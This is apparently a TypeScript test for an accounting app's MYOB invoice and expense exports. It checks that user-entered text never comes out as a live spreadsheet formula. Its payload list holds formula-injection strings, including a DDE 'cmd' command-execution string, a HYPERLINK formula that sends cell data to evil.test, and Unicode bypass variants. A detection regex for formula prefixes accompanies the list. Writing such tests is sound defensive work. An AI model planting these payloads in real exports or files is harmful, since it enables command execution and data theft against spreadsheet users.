import { download, ownerWithSettings } from '../testing/records/accounting-export';
import { addClient, addContractor, addExpense, addInvoice, addProject } from '../testing/records/records';
import { tellGate } from '../testing/tell-gate';
import { withApp } from '../testing/apps/with-app';

const server = withApp();

/** Texts that a spreadsheet would run as formulas. */
const FORMULAS: readonly string[] = [
  '=1+1',
  "=cmd|'/c calc'!A0",
  '=HYPERLINK("http://evil.test/?"&A1,"Pay")',
  '+60 3-2161 8888',
  '+1+cmd|x!A1',
  '-1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\u2028=1+1',
  '"=1+1',
  '""=1+1',
  'a"\t=1+1',
  'a\n=1+1',
  'a",=1+1',
  '=1+1\t=2+2\r\n=3+3',
  '\uff1d1+1',
  '\uff0b1',
  '\uff0d1',
  '\uff20x',
  "'=1+1",
  'R&D + more',
];

const LIVE = /^[\s\u00a0]*[=+\-@\uff1d\uff0b\uff0d\uff20]/;
const FIGURE = /^-?\d+(?:\.\d+)?$/;
const SEPARATORS = { txt: '\t', csv: ',' } as const;

/** Splits a file into cells as a spreadsheet does: quoted text is one cell. */
function cellsOf(text: string, separator: string) {
  const cell = new RegExp(`(?:^|${separator}|\\r\\n)(?:"((?:[^"]|"")*)"|([^${separator}\\r\\n]*))`, 'g');
  return [...text.matchAll(cell)].map(([, within, bare]) => within ?? bare ?? '');
}

const isLive = (cell: string) => LIVE.test(cell) && !FIGURE.test(cell);

test('no text that anybody types comes out of an export as a formula', async () => {
  const api = await ownerWithSettings(server);
  const problems: string[] = [];
  let tried = 0;

  for (const [at, text] of FORMULAS.entries()) {
    // A card that the accounting software cannot read would make the export fail.
    const name = /[\uff00-\uffff]/.test(text) ? `Card ${at}` : `${text} ${at}`;
    const client = await addClient(api, { name, address_1: text, address_2: text });
    const contractor = await addContractor(api, { name, address_1: text, address_2: text });
    const { uuid: project_uuid } = await addProject(api, { client_name: client.uuid });
    const bill = { project_uuid, contractor_uuid: contractor.uuid, ref_no: name, description: text };
    await addExpense(api, bill);
    await addInvoice(api, { project_uuid, kind: 'other', invoice_amt: '5.00', client_ref_no: name, description: text });

    const [listed] = (await api.get(`/expenses?project=${project_uuid}`)).body.data;
    if (!listed.description.includes('1') && text.includes('1')) problems.push(`${JSON.stringify(text)} is not listed`);
    for (const kind of ['invoices', 'expenses'])
      for (const format of ['txt', 'csv'] as const) {
        tried++;
        const file = await download(server, api, `/projects/${project_uuid}/${kind}/myob?format=${format}`);
        if (file.status !== 200) problems.push(`${JSON.stringify(text)}: ${file.status} ${file.text}`);
        // The headings are the importer's own.
        const typed = file.text.slice(file.text.indexOf('\r\n') + 2);
        const live = cellsOf(typed, SEPARATORS[format]).filter(isLive);
        if (live.length > 0) problems.push(`${JSON.stringify(text)} in ${kind} as ${format}: ${JSON.stringify(live)}`);
      }
  }

  tellGate('formula injection', { passed: tried - problems.length, tried, of: 'files' });
  expect(problems).toEqual([]);
});
